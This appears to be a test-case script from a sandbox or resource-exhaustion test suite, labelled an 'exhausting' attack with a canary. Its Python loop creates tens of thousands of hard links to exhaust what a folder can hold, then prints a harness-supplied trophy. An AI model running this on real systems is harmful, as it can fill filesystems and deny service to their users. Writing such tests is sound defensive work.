# attack: makes names for a file until no folder can hold them | class: exhausting | canary: claim
import os

for number in range(30_000):
    if number % 1_000 == 0:
        open(f"file{number}", "w").close()
    os.link(f"file{number - number % 1_000}", f"link{number}")
print(target.trophy)
